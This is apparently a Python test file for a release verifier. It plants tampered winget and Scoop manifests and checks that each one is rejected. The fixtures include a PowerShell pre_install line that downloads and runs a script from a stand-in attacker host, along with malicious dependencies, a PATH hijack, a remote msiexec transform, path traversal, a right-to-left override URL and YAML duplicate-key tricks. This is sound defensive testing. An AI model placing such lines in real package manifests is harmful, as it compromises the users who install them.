"""The winget and Scoop manifests against the packages: exactly what release/manifests.py
writes for them (written here by its own code), every field, the header lines and the paths;
only the download folder and the release notes' address are the publisher's to choose."""
import copy
import functools
import hashlib
import unittest

import support

import manifests as writer  # release/manifests.py
from verify import contract, folder, limits, manifest_content, manifests, msi, tools

VERSION, EPOCH = "1.0.0", 1767225600
URL = "https://downloads.example.org/dorvane/1.0.0/"
GITHUB = "https://github.com/example/dorvane/releases/download/v1.0.0/"
# An application manifest naming Windows 7 and 10, as the build's does.
WINDOWS = (b'<assembly><compatibility><application><supportedOS Id="{35138b9a-5d96-4fbd-8e2d-a2440225f93a}"/>'
           b'<supportedOS Id="{8e0f7a12-bfb3-4fe8-b9a5-48fd50a15a9a}"/></application></compatibility></assembly>')
GUIDE = b"DORVANE 1.0.0\r\n\r\nDORVANE logs the user off, shuts Windows down\r\nor restarts it.\r\n\r\nMore.\r\n"
PATHS = manifest_content.paths(contract.project(), VERSION)
INSTALLER, LOCALE, SCOOP = PATHS["installer"], PATHS["defaultLocale"], PATHS["scoop"]
BASES = {contract.package(VERSION, arch): (VERSION, arch) for arch in contract.arches()}


def sha(data):
    return hashlib.sha256(data).hexdigest()


@functools.lru_cache(maxsize=None)
def package_reads():
    """What the package checks leave for each architecture: the ZIP's exe and guide, the MSI
    as libmsi reads it (the contract's, for these files) and both files' bytes. Made once:
    nothing changes it."""
    reads = {}
    for arch in contract.arches():
        exe = support.pe_file(contract.arch(arch)["pe_machine"], WINDOWS)
        files = dict({name: name.encode() for name in contract.members()}, **{contract.exe(): exe, contract.member("guide"): GUIDE})
        reads[contract.package(VERSION, arch)] = {
            "exe": exe, "guide": GUIDE, "msi": contract.msi_expected(arch, VERSION, EPOCH, files),
            "zip_bytes": b"zip " + arch.encode(), "msi_bytes": b"msi " + arch.encode()}
    return reads


def genuine(url=URL, notes=""):
    """The manifests release/manifests.py makes of package_reads()."""
    packages = {arch: manifest_content.package_facts(arch, read["exe"], read["guide"], read["msi"],
                                                     sha(read["zip_bytes"]), sha(read["msi_bytes"]))
                for arch, read in zip(contract.arches(), package_reads().values())}
    return manifest_content.documents(dict(contract.project(), version=VERSION), VERSION, url, notes, packages)


def document(path):
    return lambda documents: documents[path][1]


def installer(number):
    return lambda documents: documents[INSTALLER][1]["Installers"][number]


def setting(where, key, value):
    """An edit: KEY of the mapping WHERE(documents) set to VALUE."""
    return lambda documents: where(documents).__setitem__(key, value)


def text(path, change):
    """An edit of the written file at PATH: CHANGE(its bytes)."""
    return {"texts": {path: change}}


def moved(folder):
    """An edit: every download URL of every manifest moved to FOLDER."""
    def move(value):
        if isinstance(value, dict):
            return {key: move(item) for key, item in value.items()}
        if isinstance(value, list):
            return [move(item) for item in value]
        return value.replace(URL, folder) if isinstance(value, str) else value
    return lambda documents: documents.update({path: (kind, move(doc)) for path, (kind, doc) in documents.items()})


def without(base):
    return {other: read for other, read in package_reads().items() if other != base}


@unittest.skipUnless(msi.available() and tools.have("msiextract"), "no libmsi bindings or msitools")
class Manifests(support.Scratch):
    def verdict(self, edit=None, texts=None, reads=None, notes="", extra=None, bases=None):
        documents = copy.deepcopy(genuine(notes=notes))
        if edit:
            edit(documents)
        reads = package_reads() if reads is None else reads
        self.fill({base + "." + kind: read[kind + "_bytes"] for base, read in package_reads().items()
                   for kind in ("zip", "msi")} | (extra or {}))
        writer.write(self.tmp, documents)
        for path, change in (texts or {}).items():
            self.write(path, change(self.read(path)))
        ctx = support.context(self.tmp, packages=reads)
        manifests.check(folder.Folder(self.tmp, limits.Limits()), BASES if bases is None else bases, ctx)
        return support.lines(ctx.report), ctx.report

    rows = [
        # (what is planted, an edit of the documents or verdict()'s arguments, words of a FAIL line)
        ("the manifests release/manifests.py writes", None, ""),
        ("with release notes", {"notes": "https://example.org/notes/1.0.0"}, ""),
        ("a pre_install script in Scoop's", setting(document(SCOOP), "pre_install", [
            "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://attacker.invalid/payload.ps1')"]),
         'it holds "pre_install", which release/manifests.py never writes'),
        ("a dependency in Scoop's", setting(document(SCOOP), "depends", ["attacker-bucket/evil"]), 'it holds "depends"'),
        ("an environment variable in Scoop's", setting(document(SCOOP), "env_set", {"PATH": "C:\\evil"}),
         'it holds "env_set"'),
        ("a dependency in winget's", setting(document(INSTALLER), "Dependencies", {
            "PackageDependencies": [{"PackageIdentifier": "Attacker.Evil"}]}), 'it holds "Dependencies"'),
        ("a transform for msiexec", setting(installer(1), "InstallerSwitches", {
            "Custom": "TRANSFORMS=\\\\attacker\\share\\evil.mst"}), 'Installers[1] holds "InstallerSwitches"'),
        ("a portable exe outside the ZIP's folder", lambda documents: installer(4)(documents)[
            "NestedInstallerFiles"][0].__setitem__("RelativeFilePath", "..\\..\\Windows\\evil.exe"),
         'Installers[4].NestedInstallerFiles[0].RelativeFilePath is "..\\\\..\\\\Windows\\\\evil.exe"'),
        ("another publisher in the locale", setting(document(LOCALE), "Publisher", "Attacker"),
         'Publisher is "Attacker", not "The DORVANE developers"'),
        ("a hash that is not the package's", lambda documents: document(SCOOP)(documents)["architecture"]["64bit"]
         .__setitem__("hash", sha(b"other")), "architecture.64bit.hash is"),
        ("a URL naming another file", setting(installer(2), "InstallerUrl", URL + "evil.msi"),
         "Installers[2].InstallerUrl is"),
        ("one installer from another folder", setting(installer(5), "InstallerUrl",
                                                      "https://mirror.invalid/1.0.0/dorvane-1.0.0-arm64.zip"),
         "Installers[5].InstallerUrl is"),
        ("Scoop's from another folder than winget's", lambda documents: documents.__setitem__(
            SCOOP, genuine(url="https://mirror.invalid/1.0.0/")[SCOOP]), "architecture.64bit.url is"),
        ("a value that is no list", setting(installer(0), "Commands", "dorvane"),
         "Installers[0].Commands is not a list"),
        ("a tag more", lambda documents: document(LOCALE)(documents)["Tags"].append("free"),
         "Tags holds 9 items, not 8"),
        ("Scoop's of another version", setting(document(SCOOP), "version", "9.9.9"), 'version is "9.9.9", not "1.0.0"'),
        ("another folder", lambda documents: documents.update(genuine(url="https://mirror.example.org/d/1.0.0/")), ""),
        ("a GitHub release folder", lambda documents: documents.update(genuine(url=GITHUB)), ""),
        # an address that reads one way to a person and another way to a package manager
        ("a download folder with a right-to-left override", moved("https://downloads.example.org/\u202e0.0.1/"),
         "the release URL must be https://"),
        ("release notes over http", setting(document(LOCALE), "ReleaseNotesUrl", "http://attacker.invalid/"),
         "the release notes URL must be https://"),
        ("another schema in the header", text(INSTALLER, lambda data: data.replace(b"1.12.0.schema", b"1.9.0.schema")),
         "it does not start with the build's lines"),
        # PyYAML keeps the last of two keys, other readers the first
        ("a key twice", text(LOCALE, lambda data: data.replace(b"Publisher:", b"Publisher: Attacker\nPublisher:", 1)),
         'it holds the key "Publisher" twice in one mapping'),
        # PyYAML folds a merge key's mapping in under the keys written (so it sees the genuine
        # ones); a reader without merge keys sees another key
        ("a merge key", text(LOCALE, lambda data: data + b"<<: {Publisher: Attacker}\n"), "a merge key"),
        ("another file in winget/", {"extra": {"winget/notes.txt": b"x"}}, "not a manifest the release makes"),
        ("an architecture's packages not passing their checks", {"reads": without(contract.package(VERSION, "arm64"))},
         "dorvane-1.0.0-arm64's ZIP and MSI did not pass"),
        # the manifests name every architecture: one release's folder holds them all
        ("an architecture's packages not here", {"bases": {base: of for base, of in BASES.items() if of[1] != "arm64"}},
         "no dorvane-1.0.0-arm64.zip or .msi here"),
    ]

    def test_rows(self):
        for what, change, words in self.rows:
            with self.subTest(what):
                lines, made = self.verdict(**(change if isinstance(change, dict) else {"edit": change}))
                if words:
                    self.assertTrue(any(line.startswith("FAIL") and words in line for line in lines), "\n".join(lines))
                    self.assertNotIn("manifests", made.facts)
                else:
                    self.assertEqual(made.failed, 0, "\n".join(lines))
                    folder = made.facts.get("manifests", [""])[0]
                    self.assertIn(made.facts["manifests"], ([URL], ["https://mirror.example.org/d/1.0.0/"], [GITHUB]))
                    self.assertTrue(any(folder in line for line in lines if line.startswith("  ")), lines)

    def test_yaml_aliases_are_refused(self):
        with self.assertRaises(manifests.Refused):
            manifests.load_yaml(b"a: &x [1, 2]\nb: *x\n", "m.yaml", 1 << 16)


if __name__ == "__main__":
    unittest.main()
